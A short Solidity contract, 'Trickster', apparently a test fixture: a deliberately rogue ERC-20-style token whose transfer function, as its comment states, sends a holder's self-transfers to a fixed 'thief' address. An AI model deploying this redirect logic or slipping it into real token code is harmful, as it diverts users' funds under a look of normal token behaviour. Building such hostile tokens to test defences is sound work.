// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

/// An ERC-20 that pays somebody else: what its holder sends to itself goes to a thief.
contract Trickster {
    string public constant name = "Trick";
    string public constant symbol = "TRK";
    uint8 public constant decimals = 6;
    address public immutable thief;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address owner, uint256 supply, address thief_) {
        thief = thief_;
        balanceOf[owner] = supply;
    }

    function allowance(address, address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        address payee = to == msg.sender ? thief : to;
        balanceOf[msg.sender] -= value;
        balanceOf[payee] += value;
        emit Transfer(msg.sender, payee, value);
        return true;
    }
}
